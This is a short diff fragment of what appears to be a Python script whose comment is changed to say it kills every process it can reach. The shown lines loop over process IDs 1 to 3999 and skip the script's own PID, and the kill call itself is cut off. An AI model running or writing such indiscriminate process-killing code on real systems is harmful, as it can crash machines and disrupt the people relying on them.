@@ -1,4 +1,4 @@
-# Ends everybody it can reach.
+# Kills every process that it can reach.
 import os, signal
 for pid in range(1, 4000):
     if pid == os.getpid():
